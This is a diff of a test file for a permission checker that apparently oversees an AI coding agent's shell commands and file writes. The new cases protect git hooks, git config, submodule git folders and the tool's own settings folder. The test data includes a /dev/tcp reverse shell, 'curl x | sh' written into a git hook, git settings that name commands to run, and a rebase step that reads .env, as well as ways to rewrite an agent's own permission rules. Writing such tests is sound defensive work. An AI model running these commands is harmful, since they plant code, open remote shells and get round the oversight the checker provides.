@@ -40,6 +40,8 @@ interface Case {
   suggestions?: string[];
   /** The shell the command runs in, when not bash. */
   shell?: ShellKind;
+  /** Whether the decision guards wren's own folder (copied before the call, put back after). Default: it does not. */
+  guard?: boolean;
 }
 
 const cases: Case[] = [
@@ -92,6 +94,30 @@ const cases: Case[] = [
   { name: "the repository's config always asks", request: write("Edit", inRoot(".git/config")), rules: ["allow Edit(**)"], mode: "accept-edits", expect: "ask", reason: /git runs what is written there/ },
   { name: "a redirect or cp into the repository's hooks asks", request: bash("echo 'curl x | sh' > .git/hooks/pre-commit && cp evil .git/hooks/post-checkout"), rules: ["allow Bash"], expect: "ask", reason: /git runs what is written there/ },
   { name: "the rest of .git and the repository's files are written as before", request: write("Write", inRoot(".git/info/exclude")), mode: "accept-edits", expect: "allow" },
+  // Submodules' and linked work trees' git folders have hooks and config of their own (`git status` runs a submodule's core.fsmonitor), and a `.git` file says where a work tree's git folder is.
+  ...[".git/modules/sub/hooks/post-checkout", ".git/modules/sub/config", ".git/modules/a/modules/b/hooks/pre-commit", ".git/worktrees/w/config.worktree", ".git/worktrees/w/commondir", ".git/config.worktree", "sub/.git", "vendor/lib/.git/hooks/pre-commit", "vendor/lib/.git/config"].map(
+    (file): Case => ({ name: `${file} always asks, even under a rule in accept-edits`, request: write("Write", inRoot(file)), rules: ["allow Write(**)"], mode: "accept-edits", expect: "ask", reason: /git runs what is written there/, suggestions: [] }),
+  ),
+  { name: "a redirect, cp, ln or tar into a submodule's or work tree's git folder asks", request: bash("echo x > .git/modules/sub/hooks/post-checkout; cp x .git/modules/sub/config; ln -s x .git/worktrees/w/commondir; printf 'gitdir: ../evil' > sub/.git; tar -xf x.tar -C .git/modules/sub; cp x .git/modules/*/hooks/pre-commit"), rules: ["allow Bash"], expect: "ask", reason: /^(?=.*\.git\/modules\/sub\/hooks\/post-checkout: git runs)(?=.*\.git\/modules\/sub\/config: git runs)(?=.*\.git\/worktrees\/w\/commondir: git runs)(?=.*sub\/\.git: git runs)(?=.*below \.git\/modules\/sub: git runs)(?=.*\.git\/modules\/\*\/hooks\/pre-commit)/ },
+  { name: "a glob that may name a file in a submodule's or work tree's git folder asks", request: bash("cp x .gi?/modules/sub/config; echo x > .git/mod*/sub/hooks/pre-commit; cp x .git/work*/w/commondir"), rules: ["allow Bash"], expect: "ask", reason: /^(?=.*\.gi\?\/modules\/sub\/config, a pattern that may name a file in \.git\/modules)(?=.*\.git\/mod\*\/sub\/hooks\/pre-commit, a pattern)(?=.*\.git\/work\*\/w\/commondir, a pattern that may name a file in \.git\/worktrees)/ },
+  // `git config` writes the repository's config (or the file it names), which git reads at every later git command.
+  ...[
+    "git config core.pager 'sh x'", "git config diff.external ./x", "git config include.path ../x.cfg", "git config core.sshCommand ./x", "git config user.name x",
+    "git config --add alias.x y", "git config --replace-all credential.helper ./x", "git config --unset core.hooksPath", "git config --rename-section a b", "git config --remove-section a",
+    "git config --local core.editor ./x", "git config --worktree core.pager ./x", "git config --file .git/modules/x/config user.name x", "git config --file=.git/modules/x/config user.name x",
+    "git config -f .git/config a.b c", "git -C sub config user.name x", "cd src && git config a.b c", "git config set core.pager ./x", "git config unset core.pager", "git config -e",
+  ].map((command): Case => ({ name: `${command} asks under a git rule`, request: bash(command), rules: ["allow Bash(git *)", "allow Bash(cd *)"], expect: "ask", reason: /\.git\/(modules\/x\/)?config(\.worktree)?: git runs what is written there/, suggestions: [] })),
+  // A new repository's hooks come from --template, and its config from clone's -c/--config: what a later git command there runs.
+  ...["git init --template=tpl sub2", "git init --template tpl", "git clone --template=tpl https://x/y sub2", "git clone -c core.fsmonitor=./x https://x/y sub2", "git clone --config=core.hooksPath=h https://x/y", "git -C vendor clone --config core.pager=./x https://x/y.git"].map(
+    (command): Case => ({ name: `${command} asks under a git rule: it writes the new repository's hooks or config`, request: bash(command), rules: ["allow Bash(git *)"], expect: "ask", reason: /\.git\/(hooks|config): git runs what is written there/, suggestions: [] }),
+  ),
+  { name: "git init and git clone with no template or settings run under a git rule", request: bash("git init; git init sub2; git clone https://x/y sub2; git clone --depth 1 -b main https://x/y.git"), rules: ["allow Bash(git *)"], expect: "allow" },
+  { name: "git -c include.path and --config-env include.path read settings, which may name commands, from a file the model may have written, so they ask", request: bash("git -c include.path=x.cfg status; git -c includeIf.onbranch:main.path=x.cfg log; git --config-env=include.path=F status"), rules: ["allow Bash(git *)"], expect: "ask", reason: /^(?=.*git -c include\.path=x\.cfg status is high-risk)(?=.*git -c includeIf\.onbranch:main\.path=x\.cfg log is high-risk)(?=.*--config-env=include\.path=F status is high-risk)/ },
+  { name: "git -c with a setting that runs nothing runs under a git rule", request: bash("git -c color.ui=never status; git -c user.name=x log"), rules: ["allow Bash(git *)"], expect: "allow" },
+  { name: "git told that a folder other than a .git is its repository, or making one, asks: its config and hooks are not protected", request: bash("git --git-dir=notes log; git --git-dir notes/ x; git init --bare made; git clone --mirror https://x/y.git m"), rules: ["allow Bash(git *)"], expect: "ask", reason: /^(?=.*with notes as its repository: git runs what that folder's config and hooks name)(?=.*with made as its repository)(?=.*with m as its repository)/, suggestions: [] },
+  { name: "git config --global and --system change git's settings outside the project, which asks", request: bash("git config --global core.pager ./x; git config --system core.pager ./x"), rules: ["allow Bash(git *)"], expect: "ask", reason: /^(?=.*~\/\.gitconfig)(?=.*\/etc\/gitconfig, outside the project)/ },
+  { name: "git config reads, and writes of a file that is not git's, run under a git rule", request: bash("git config --get user.name; git config user.name; git config -l; git config --list --show-origin; git config --get-regexp '^alias'; git config get user.name; git config list; git config --file x.cfg --get a.b; git config --blob HEAD:.gitmodules --list; git config --file tools/x.cfg a.b c"), rules: ["allow Bash(git *)"], expect: "allow" },
+  { name: "files named like a git folder's, outside one, are written as before", request: write("Write", inRoot("docs/config"), inRoot("hooks/x"), inRoot(".github/workflows/ci.yml"), inRoot("x.git/config")), mode: "accept-edits", expect: "allow" },
   { name: "a read-write redirect into wren's own folder asks as a write", request: bash("exec 3<>.wren/settings.toml; echo 'allow = [\"Bash\"]' >&3"), rules: ["allow Bash"], expect: "ask", reason: /writes \.wren\/settings\.toml: .*permission rules/ },
   { name: "a read-write redirect onto a socket as a shell's input is critical", request: bash("bash 0<>/dev/tcp/10.0.0.1/4444"), rules: ["allow Bash"], expect: "ask", typedYes: true, reason: /reverse shell/ },
   { name: "a redirect into wren's own folder asks", request: bash("echo x >> .wren/settings.toml"), rules: ["allow Bash(echo *)"], expect: "ask", reason: /permission rules/ },
@@ -192,7 +218,7 @@ const cases: Case[] = [
   // A glob or brace list written may name a place that always asks, or a file an Edit deny names.
   { name: "a glob that may name wren's own settings asks even under a tool-wide Bash rule", request: bash("rm .w*/settings.toml"), rules: ["allow Bash"], expect: "ask", reason: /writes \.w\*\/settings\.toml, a pattern that may name a file in \.wren: .*permission rules/, suggestions: [] },
   { name: "?, globbed redirections, rm -r and chmod globs reaching .wren or .git/hooks ask", request: bash("cp x .wre?/settings.toml; echo x > .wr*/settings.toml; rm -r .w*; chmod +x .git/ho*/*; touch .git/hook*/pre-commit"), rules: ["allow Bash"], expect: "ask", reason: /^(?=.*\.wre\?\/settings\.toml, a pattern)(?=.*\.wr\*\/settings\.toml, a pattern)(?=.*\.w\*, a pattern)(?=.*\.git\/ho\*\/\*, a pattern that may name a file in \.git\/hooks)(?=.*\.git\/hook\*\/pre-commit)/ },
-  { name: "a brace list written is spelled out", request: bash("cp x .{wren,x}/settings.toml"), rules: ["allow Bash"], expect: "ask", reason: /changes \.wren\/settings\.toml: .*permission rules/ },
+  { name: "a brace list written is spelled out", request: bash("cp x .{x,wren}/settings.toml; touch .{wren,x}/a"), rules: ["allow Bash"], expect: "ask", reason: /^(?=.*\.wren\/settings\.toml: .*permission rules)(?=.*\.wren\/a: .*permission rules)/ },
   { name: "a glob written inside wren's own folder is said once", request: bash("sed -i s/a/b/ .wren/*.toml"), rules: ["allow Bash"], expect: "ask", reason: /^The command changes \.wren\/\*\.toml: [^.]*'s own folder, where the project's permission rules live, so changes there always ask\.$/ },
   { name: "a glob that may name a file an Edit deny names asks", request: bash("rm .en*; cp x .e?v"), rules: ["allow Bash", "deny Edit(**/.env)"], expect: "ask", reason: /Bash writes \.en\*, a pattern that may name a file denied by Edit\(\*\*\/\.env\)/ },
   { name: "an archive unpacked into a folder that may hold a file an Edit deny names asks", request: bash("tar -xf a.tar -C src"), rules: ["allow Bash(tar *)", "deny Edit(**/.env)"], expect: "ask", reason: /writes below src, which may hold a file denied by Edit/ },
@@ -235,21 +261,34 @@ const cases: Case[] = [
   { name: "git checkout -- . and git restore . at the project root ask", request: bash("git checkout -- .; git restore ."), rules: ["allow Bash(git *)"], expect: "ask", reason: /may write any file below \.: that is the project root/ },
   { name: "new branches, reads and checking out other paths run under a git rule", request: bash("git checkout -b feature; git switch -c other; git checkout -- src/a.ts; git restore src/a.ts; git checkout HEAD -- src; git reset HEAD~1; git stash list; git log; git merge-base a b"), rules: ["allow Bash(git *)"], expect: "allow" },
   // Whatever a commit, a stash or the index holds (which the model may have built with git itself) is
-  // written over the whole work tree by these: wren's own settings there may be rewritten.
-  { name: "switching branches asks under a git rule: the branch may rewrite wren's settings", request: bash("git checkout main"), rules: ["allow Bash(git *)"], expect: "ask", reason: /rewrites the work tree.*wren's own settings \(\.wren\/settings\.toml/, suggestions: [] },
+  // written over the whole work tree by these: they run under their rules with wren's own settings
+  // guarded (copied before, put back after), where git alone does it and is done when the line is.
+  { name: "switching branches runs under a git rule, guarding wren's settings", request: bash("git checkout main"), rules: ["allow Bash(git *)"], expect: "allow", by: "Bash(git *)", guard: true, reason: /rewrites the work tree.*wren's own settings \(\.wren\/.*puts back whatever it changes/ },
   ...[
     "git switch main", "git switch -c feature origin/x", "git checkout -b feature origin/x", "git checkout -f", "git merge topic", "git merge --abort", "git pull", "git pull --rebase origin main",
-    "git stash", "git stash pop", "git stash apply stash@{1}", "git reset --hard", "git reset --hard HEAD~3", "git reset --keep x", "git cherry-pick abc123", "git rebase main",
-    "git rebase -i HEAD~3", "git revert abc123", "git bisect start bad good", "git read-tree -u -m HEAD", "git checkout-index -a -f", "git -C src checkout main", "git -c x.y=z switch main", "sudo git checkout main",
-  ].map((command): Case => ({ name: `${command} asks under a git rule`, request: bash(command), rules: ["allow Bash(git *)", "allow Bash(sudo *)"], expect: "ask", reason: /rewrites the work tree/ })),
-  { name: "a work-tree rewrite asks in accept-edits and under a tool-wide Bash rule", request: bash("git pull"), rules: ["allow Bash"], mode: "accept-edits", expect: "ask", reason: /wren's own settings/ },
+    "git stash", "git stash pop", "git stash apply stash@{1}", "git cherry-pick abc123", "git rebase main", "git revert abc123",
+    "git fetch && git merge origin/main", "git --no-pager pull",
+  ].map((command): Case => ({ name: `${command} runs under a git rule, guarding wren's settings`, request: bash(command), rules: ["allow Bash(git *)", "allow Bash(cd *)"], expect: "allow", guard: true, reason: /rewrites the work tree/ })),
+  // Where a program the model chose may run in it, or go on after the line returns, or the tree may not be the project's: as before.
+  ...[
+    "git rebase -i HEAD~3", "git pull --rebase=interactive", "git rebase -x 'make' main", "git rebase --exec=make main", "git pull --upload-pack='sh x' origin", "git merge -s mine topic", "git bisect start bad good",
+    "git read-tree -u -m HEAD", "git checkout-index -a -f", "git -C src checkout main", "git -c x.y=z switch main", "sudo git checkout main", "git --git-dir=x/.git checkout main",
+    "git --work-tree=src checkout main", "GIT_WORK_TREE=/tmp/w git checkout main", "GIT_DIR=x git pull", "export GIT_DIR=x; git pull", "git checkout --recurse-submodules main",
+    "git pull &", "(git pull) &", "git merge topic & sleep 1", "nohup git pull", "setsid git pull", "git pull; disown", "sh -c 'git pull'", "cd \"$D\" && git pull",
+  ].map((command): Case => ({ name: `${command} asks under a git rule`, request: bash(command), rules: ["allow Bash(git *)", "allow Bash(sudo *)", "allow Bash"], expect: "ask", reason: /rewrites the work tree|outside the project|wren's own folder|cannot place/ })),
+  { name: "git reset --hard (high-risk) runs under a rule naming it, guarding wren's settings", request: bash("git reset --hard"), rules: ["allow Bash(git reset --hard)"], expect: "allow", guard: true },
+  { name: "a line with a work tree wren cannot guard asks as before, guarding none", request: bash("git pull && git -c a.b=c merge topic"), rules: ["allow Bash(git *)"], expect: "ask", reason: /so it always asks/, suggestions: [] },
+  { name: "a work-tree rewrite no rule allows asks, guarding wren's settings after a yes, and can be remembered", request: bash("git pull"), mode: "accept-edits", expect: "ask", guard: true, suggestions: ["Bash(git pull)"] },
+  { name: "a work-tree rewrite runs under a tool-wide Bash rule, guarding wren's settings", request: bash("git pull"), rules: ["allow Bash"], mode: "accept-edits", expect: "allow", guard: true },
   { name: "git rm and git mv of wren's own settings ask as the files they change", request: bash("git rm .wren/settings.toml; git mv x.toml .wren/settings.toml"), rules: ["allow Bash(git *)"], expect: "ask", reason: /changes \.wren\/settings\.toml: .*permission rules/ },
   { name: "a worktree or submodule checked out in wren's own folder asks", request: bash("git worktree add .wren/x main"), rules: ["allow Bash(git *)"], expect: "ask", reason: /\.wren\/x: .*permission rules/ },
   { name: "git submodule update rewrites the submodules' work trees, which .gitmodules places", request: bash("git submodule update --init"), rules: ["allow Bash(git *)"], expect: "ask", reason: /rewrites the work tree/ },
   { name: "what git submodule foreach, rebase -x and bisect run run writes and reads is judged as if written", request: bash("git submodule foreach 'echo x > .wren/settings.toml'"), rules: ["allow Bash(git *)"], expect: "ask", reason: /writes \.wren\/settings\.toml: .*permission rules/ },
   { name: "a Read deny stops git rebase -x reading the file", request: bash("git rebase -x 'cat .env' main"), rules: ["allow Bash(git *)", "deny Read(**/.env)"], expect: "deny", by: "Read(**/.env)" },
   { name: "a work-tree rewrite runs in bypass mode", request: bash("git checkout main"), mode: "bypass", expect: "allow" },
-  { name: "with no one to ask, a work-tree rewrite is refused", request: bash("git merge topic"), rules: ["allow Bash(git *)"], interactive: false, expect: "deny", reason: /rewrites the work tree/ },
+  { name: "with no one to ask, a work-tree rewrite a rule allows runs, guarding wren's settings", request: bash("git pull origin main"), rules: ["flag: allow Bash(git pull *)"], interactive: false, expect: "allow", by: "Bash(git pull *)", guard: true },
+  { name: "with no one to ask, a backgrounded work-tree rewrite is refused", request: bash("git pull origin main &"), rules: ["flag: allow Bash(git pull *)"], interactive: false, expect: "deny", reason: /rewrites the work tree/ },
+  { name: "with no one to ask, a work-tree rewrite no rule allows is refused, naming the rule", request: bash("git merge topic"), interactive: false, expect: "deny", reason: /--allow "Bash\(git merge topic\)"/ },
   { name: "a work tree named outside the project asks as outside", request: bash("git --work-tree=/tmp/w checkout main"), rules: ["allow Bash(git *)"], expect: "ask", reason: /\/tmp\/w, outside the project/ },
   { name: "an Edit deny stops a shell command writing the file", request: bash("echo KEY=x > .env"), rules: ["allow Bash(echo *)", "deny Edit(**/.env)"], expect: "deny", by: "Edit(**/.env)", reason: /Bash writes \.env/ },
   { name: "an Edit deny stops cp onto the file", request: bash("cp /tmp/x src/.env"), rules: ["allow Bash(cp *)", "deny Edit(**/.env)"], expect: "deny" },
@@ -405,6 +444,27 @@ describe("decide: tool, input, rules, mode → decision", () => {
     expect(decision.confirm === "typed-yes").toBe(c.typedYes ?? false);
     if (c.reason) expect(decision.reason).toMatch(c.reason);
     if (c.suggestions) expect(decision.suggestions).toEqual(c.suggestions);
+    expect(decision.guard).toEqual(c.guard ? [path.join(c.root ?? root, ".wren")] : undefined);
     expect(decision.reason.length).toBeGreaterThan(0);
+  });
+});
+
+describe("decide: a git work-tree rewrite guards wren's settings only where nothing can change them after it returns", () => {
+  let commands: CommandAnalyzer;
+  beforeAll(async () => {
+    commands = await createCommandAnalyzer();
+  });
+  afterAll(() => commands.dispose());
+
+  const headless = (command: string): ReturnType<typeof decide> =>
+    decide(bash(command), { rules: [rule("flag: allow Bash(git pull *)")], mode: "default", projectRoot: root, home, interactive: false, commands });
+
+  it("allows git pull under --allow 'Bash(git pull *)' with no one to ask, guarding .wren/; the same line backgrounded or detached is refused", () => {
+    expect(headless("git pull origin main")).toMatchObject({ action: "allow", guard: [inRoot(".wren")] });
+    for (const command of ["git pull origin main &", "nohup git pull origin main", "(git pull origin main) &", "git pull origin main & wait"]) {
+      const decision = headless(command);
+      expect(decision.action, command).toBe("deny");
+      expect(decision.guard, command).toBeUndefined();
+    }
   });
 });
